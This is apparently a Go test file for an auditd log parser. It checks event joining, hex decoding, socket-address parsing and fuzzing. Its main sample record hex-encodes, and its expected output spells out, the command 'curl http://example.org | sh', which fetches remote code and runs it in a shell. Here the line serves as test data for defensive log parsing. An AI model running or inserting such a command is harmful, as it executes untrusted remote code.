package source

import (
	"archive/zip"
	"fmt"
	"io"
	"os"
	"slices"
	"strings"
	"testing"

	"entente/internal/event"
)

const auditExec = `type=SYSCALL msg=audit(1614754186.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 items=2 ppid=100 pid=101 auid=1000 uid=33 euid=33 tty=(none) ses=4 comm="sh" exe="/usr/bin/dash" key=(null)
type=EXECVE msg=audit(1614754186.123:456): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F6578616D706C652E6F7267207C207368
type=CWD msg=audit(1614754186.123:456): cwd="/var/www"
type=PATH msg=audit(1614754186.123:456): item=0 name="/bin/sh" inode=1 dev=08:01 nametype=NORMAL
type=PATH msg=audit(1614754186.123:456): item=1 name=2F746D702F6120622E736F nametype=NORMAL
type=PROCTITLE msg=audit(1614754186.123:456): proctitle=7368002D63006375726C
`

const auditExecWant = `auditd 2021-03-03T06:49:46.123Z @0 channel=SYSCALL provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z",` +
	`"type":["SYSCALL","EXECVE","CWD","PATH","PATH","PROCTITLE"],"arch":"c000003e","syscall":["59","execve"],"success":"yes",` +
	`"exit":"0","a0":["55d0","sh"],"a1":["55d1","-c"],"items":"2","ppid":"100","pid":"101","auid":"1000","uid":"33",` +
	`"euid":"33","tty":"(none)","ses":"4","comm":"sh","exe":"/usr/bin/dash","key":null,"SYSCALL":"execve","argc":"3",` +
	`"cwd":"/var/www","item":["0","1"],"name":["/bin/sh","/tmp/a b.so"],"inode":"1","dev":"08:01",` +
	`"nametype":["NORMAL","NORMAL"],"proctitle":"sh -c curl","a2":"curl http://example.org | sh",` +
	`"cmdline":"sh -c curl http://example.org | sh"}`

func TestAuditdJoins(t *testing.T) {
	if w := expect(t, newAuditd(), auditExec, auditExecWant); len(w) > 0 {
		t.Errorf("warnings %v", w)
	}
}

// Lines of two events that come mixed are put together, each in its place.
func TestAuditdInterleaved(t *testing.T) {
	const in = `type=SYSCALL msg=audit(1.0:1): n=1
type=SYSCALL msg=audit(1.0:2): n=2
type=CWD msg=audit(1.0:1): cwd="/a"
node=other type=CWD msg=audit(1.0:2): cwd="/other"
type=CWD msg=audit(1.0:2): cwd="/b"
type=EOE msg=audit(1.0:1):
type=SYSCALL msg=audit(1.0:3): n=3
type=PROCTITLE msg=audit(1.0:2): proctitle="x"
`
	f := auditdFormat{window: 100}
	want := []string{
		`auditd 1970-01-01T00:00:01Z @0 channel=SYSCALL provider=auditd {"timestamp":"1970-01-01T00:00:01.0000000Z","type":["SYSCALL","CWD","EOE"],"n":"1","cwd":"/a"}`,
		`auditd 1970-01-01T00:00:01Z @35 channel=SYSCALL provider=auditd {"timestamp":"1970-01-01T00:00:01.0000000Z","type":["SYSCALL","CWD","PROCTITLE"],"n":"2","cwd":"/b","proctitle":"x"}`,
		`auditd 1970-01-01T00:00:01Z @106 channel=CWD provider=auditd host=other {"timestamp":"1970-01-01T00:00:01.0000000Z","type":"CWD","cwd":"/other"}`,
		`auditd 1970-01-01T00:00:01Z @220 channel=SYSCALL provider=auditd {"timestamp":"1970-01-01T00:00:01.0000000Z","type":"SYSCALL","n":"3"}`,
	}
	if w := expect(t, f, in, want...); len(w) > 0 {
		t.Errorf("warnings %v", w)
	}
	// What lies further apart than the window is not the same event, wherever the stream is cut.
	f.window = 80
	events, _ := read(t, f, in, 0)
	if len(events) != 6 {
		t.Errorf("got %d events", len(events))
	}
	sameForAllBlocks(t, f, in, events)
}

// The raw text of an event is all of its lines and no others.
func TestAuditdRaw(t *testing.T) {
	in := "type=A msg=audit(1.0:1): x=1\ntype=B msg=audit(1.0:2): x=2\ntype=C msg=audit(1.0:1): x=3\r\n" + auditExec
	var raw []string
	err := readBlocks(newAuditd(), []byte(in), 0, &Env{}, func(e *event.Event) bool {
		raw = append(raw, string(e.Raw))
		return true
	})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"type=A msg=audit(1.0:1): x=1\ntype=C msg=audit(1.0:1): x=3", "type=B msg=audit(1.0:2): x=2",
		strings.TrimSuffix(auditExec, "\n"),
	}
	if !slices.Equal(raw, want) {
		t.Errorf("got %q, want %q", raw, want)
	}
}

func TestAuditdRecords(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{
			"enriched, on a node",
			"node=web1.example.org type=SYSCALL msg=audit(1614754186.123:7): arch=c000003e syscall=322 success=yes uid=0 key=726F6F74636D6401657865630A\x1dARCH=x86_64 SYSCALL=execveat UID=\"root\" AUID=\"alice smith\"",
			`channel=SYSCALL provider=auditd host=web1.example.org {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"SYSCALL","arch":"c000003e","syscall":"322","success":"yes","uid":"0","key":["rootcmd","exec\n"],"ARCH":"x86_64","SYSCALL":"execveat","UID":"root","AUID":"alice smith"}`,
		},
		{
			"user message",
			`type=USER_CMD msg=audit(1614754186.123:7): pid=9 uid=1000 auid=1000 ses=1 msg='cwd="/home/a" cmd=6C73202D6C61 exe="/usr/bin/sudo" hostname=? addr=198.51.100.7 terminal=pts/0 res=success'`,
			`channel=USER_CMD provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"USER_CMD","pid":"9","uid":"1000","auid":"1000","ses":"1","msg":"cwd=\"/home/a\" cmd=6C73202D6C61 exe=\"/usr/bin/sudo\" hostname=? addr=198.51.100.7 terminal=pts/0 res=success","cwd":"/home/a","cmd":"ls -la","exe":"/usr/bin/sudo","hostname":null,"addr":"198.51.100.7","terminal":"pts/0","res":"success"}`,
		},
		{
			"op of several words",
			`type=USER_CHAUTHTOK msg=audit(1614754186.123:7): msg='op=changing password id=0 acct=28756E6B6E6F776E29 res=failed'`,
			`channel=USER_CHAUTHTOK provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"USER_CHAUTHTOK","msg":"op=changing password id=0 acct=28756E6B6E6F776E29 res=failed","op":"changing password","id":"0","acct":"(unknown)","res":"failed"}`,
		},
		{
			"old PAM message",
			`type=USER_AUTH msg=audit(1614754186.123:7): user pid=1 uid=0 auid=4294967295 msg='PAM: authentication acct="root" : exe="/usr/bin/sudo" (hostname=?, addr=?, terminal=pts/0 res=success)'`,
			`channel=USER_AUTH provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"USER_AUTH","pid":"1","uid":"0","auid":"4294967295","msg":"PAM: authentication acct=\"root\" : exe=\"/usr/bin/sudo\" (hostname=?, addr=?, terminal=pts/0 res=success)","acct":"root","exe":"/usr/bin/sudo","hostname":null,"addr":null,"terminal":"pts/0","res":"success"}`,
		},
		{
			"service",
			`type=SERVICE_STOP msg=audit(1614754186.123:7): pid=1 msg='unit=firewalld comm="systemd" res=success'`,
			`channel=SERVICE_STOP provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"SERVICE_STOP","pid":"1","msg":"unit=firewalld comm=\"systemd\" res=success","unit":"firewalld","comm":"systemd","res":"success"}`,
		},
		{
			"SELinux",
			`type=AVC msg=audit(1614754186.123:7): avc:  denied  { read write } for  pid=1 comm="x" path="/a" scontext=u:r:t:s0 tclass=file permissive=0`,
			`channel=AVC provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"AVC","seresult":"denied","seperms":["read","write"],"pid":"1","comm":"x","path":"/a","scontext":"u:r:t:s0","tclass":"file","permissive":"0"}`,
		},
		{
			"socket address, IPv4", `type=SOCKADDR msg=audit(1614754186.123:7): saddr=020001BBC63364070000000000000000`,
			`channel=SOCKADDR provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"SOCKADDR","saddr":"020001BBC63364070000000000000000","saddr_fam":"inet","laddr":"198.51.100.7","lport":"443"}`,
		},
		{
			"socket address, IPv6", `type=SOCKADDR msg=audit(1614754186.123:7): saddr=0A00005000000000200 `,
			`channel=SOCKADDR provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"SOCKADDR","saddr":"0A00005000000000200"}`,
		},
		{
			"socket address, IPv6 whole", `type=SOCKADDR msg=audit(1614754186.123:7): saddr=0A0000500000000020010DB800000000000000000000000100000000`,
			`channel=SOCKADDR provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"SOCKADDR","saddr":"0A0000500000000020010DB800000000000000000000000100000000","saddr_fam":"inet6","laddr":"2001:db8::1","lport":"80"}`,
		},
		{
			"socket address, path", `type=SOCKADDR msg=audit(1614754186.123:7): saddr=01002F72756E2F7800`,
			`channel=SOCKADDR provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"SOCKADDR","saddr":"01002F72756E2F7800","saddr_fam":"local","path":"/run/x"}`,
		},
		{
			"socket address explained by auditd", "type=SOCKADDR msg=audit(1614754186.123:7): saddr=020001BBC63364070000000000000000\x1dSADDR={ saddr_fam=inet laddr=198.51.100.7 lport=443 }",
			`channel=SOCKADDR provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"SOCKADDR","saddr":"020001BBC63364070000000000000000","saddr_fam":"inet","laddr":"198.51.100.7","lport":"443"}`,
		},
		{
			"number for a type", `type=UNKNOWN[1334] msg=audit(1614754186.123:7): prog-id=5 op=LOAD`,
			`channel=BPF provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"BPF","prog-id":"5","op":"LOAD"}`,
		},
		{
			"long argument in pieces", `type=EXECVE msg=audit(1614754186.123:7): argc=2 a0="x" a1_len=6 a1[0]=616263 a1[1]="def"`,
			`channel=EXECVE provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"EXECVE","argc":"2","a0":"x","a1":"abcdef","cmdline":"x abcdef"}`,
		},
		{
			"as ausearch explains it", `type=SYSCALL msg=audit(03/03/2021 06:49:46.123:7) : arch=x86_64 syscall=execve comm=dd exe=/bin/dd`,
			`channel=SYSCALL provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"SYSCALL","arch":"x86_64","syscall":"execve","comm":"dd","exe":"/bin/dd","SYSCALL":"execve"}`,
		},
		{
			"cut off", `type=USER_CMD msg=audit(1614754186.123:7): pid=9 msg='cwd="/home`,
			`channel=USER_CMD provider=auditd {"timestamp":"2021-03-03T06:49:46.1230000Z","type":"USER_CMD","pid":"9","msg":"cwd=\"/home","cwd":"\"/home"}`,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want := "auditd 2021-03-03T06:49:46.123Z @0 " + tt.want
			if got := readOne(t, newAuditd(), tt.in); got != want {
				t.Errorf("got\n%s\nwant\n%s", got, want)
			}
		})
	}
}

func TestAuditdForeignLines(t *testing.T) {
	in := "----\ntime->Wed Mar  3 06:49:46 2021\ntype=A msg=audit(1.0:1): x=1\nhello\ntype=B msg=nonsense\n"
	w := expect(t, newAuditd(), in,
		`auditd 1970-01-01T00:00:01Z @36 channel=A provider=auditd {"timestamp":"1970-01-01T00:00:01.0000000Z","type":"A","x":"1"}`,
		`auditd @65 {"message":"hello"}`,
		`auditd @71 {"message":"type=B msg=nonsense"}`)
	if len(w) != 2 || w[0].off != 65 {
		t.Errorf("warnings %v", w)
	}
}

func TestAuditdManyFields(t *testing.T) {
	var b strings.Builder
	b.WriteString("type=EXECVE msg=audit(1.0:1): ")
	for i := range 3 * maxFields {
		fmt.Fprintf(&b, "a%d=61 k%d=1 ", i, i)
	}
	b.WriteString("\ntype=A msg=audit(1.0:2): x=1\n")
	events, warnings := read(t, newAuditd(), b.String(), 0)
	if len(events) != 2 || !strings.HasSuffix(events[1], `"type":"A","x":"1"}`) || len(warnings) != 1 {
		t.Errorf("got %d events, warnings %v", len(events), warnings)
	}
	var last string
	for range 20 { // ever new names
		events, _ := read(t, newAuditd(), b.String(), 0)
		last = events[1]
	}
	if last != events[1] {
		t.Errorf("got %s", last)
	}
}

// Events that overlap without end do not grow a block without bound.
func TestAuditdOverlap(t *testing.T) {
	var b strings.Builder
	for i := 0; b.Len() < 3*maxAuditBlock; i++ {
		fmt.Fprintf(&b, "type=A msg=audit(1.0:%d): x=%0200d\ntype=B msg=audit(1.0:%d): x=1\n", i, i, max(i-2, 0))
	}
	largest, n := 0, 0
	err := newAuditd().Split(t.Context(), strings.NewReader(b.String()), &Env{}, func(bl Block) error {
		largest = max(largest, len(bl.Data))
		n += len(bl.Data)
		return nil
	})
	if err != nil || n != b.Len() || largest > 2*maxAuditBlock {
		t.Errorf("%d of %d bytes, largest block %d, %v", n, b.Len(), largest, err)
	}
}

func TestAuditdSniff(t *testing.T) {
	for in, want := range map[string]bool{
		auditExec: true,
		"----\nnode=a type=X msg=audit(1.2:3): a=b\n": true,
		"type=X\n":                false,
		"key=value\n":             false,
		"":                        false,
		"a\nb\n" + auditExec[:60]: false,
	} {
		if got := newAuditd().(Sniffer).Sniff([]byte(in)); got >= 80 != want {
			t.Errorf("Sniff(%q) = %d", in, got)
		}
	}
}

// zipMembers returns the files in a zip archive of the corpora, or skips the test.
func zipMembers(t *testing.T, path string) map[string]string {
	t.Helper()
	path = "../../../shared/corpora/security-datasets/" + path
	if _, err := os.Stat(path); err != nil {
		t.Skipf("corpus is not here: %v", err)
	}
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	members := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		_ = r.Close()
		members[f.Name] = string(data)
	}
	return members
}

func TestAuditdCorpus(t *testing.T) {
	for name, data := range zipMembers(t, "atomic/linux/discovery/host/sh_arp_cache.zip") {
		if newAuditd().(Sniffer).Sniff([]byte(data)) < 80 {
			t.Errorf("%s is not recognised", name)
		}
		events, warnings := read(t, newAuditd(), data, 0)
		if len(events) != 2 || len(warnings) > 0 {
			t.Fatalf("%s: %d events, warnings %v", name, len(events), warnings)
		}
		for i, want := range []string{`"cmdline":"arp -a"`, `"cmdline":"grep -v ^?"`} {
			if !strings.Contains(events[i], want) {
				t.Errorf("%s: event %d is %s, want %s", name, i, events[i], want)
			}
		}
		sameForAllBlocks(t, newAuditd(), data, events)
	}
}

func FuzzAuditd(f *testing.F) {
	fuzzFormat(f, auditdFormat{window: 100},
		auditExec,
		"type=SYSCALL msg=audit(1.0:1): n=1\ntype=CWD msg=audit(1.0:2): x\ntype=CWD msg=audit(1.0:1): cwd=\"/a\"\ntype=EOE msg=audit(1.0:2):\n",
		"node=a type=EXECVE msg=audit(1.0:1): argc=2 a0=61 a1_len=5 a1[0]=62 a1[1]=\"c\"\x1dA=\"b\"\n----\n",
		"type=USER_CMD msg=audit(1.0:1): msg='op=a b c=\"d\" (e=?, f=g)'\ntype=AVC msg=audit(1.0:1): avc: denied { a b } for saddr=0A0000500000000020010DB800000000000000000000000100000000\n",
	)
}

func BenchmarkAuditd(b *testing.B) {
	benchmarkFormat(b, newAuditd(), func(i int) string {
		return strings.ReplaceAll(auditExec, "123:456", fmt.Sprintf("%03d:%d", i%1000, i))
	}, "")
}
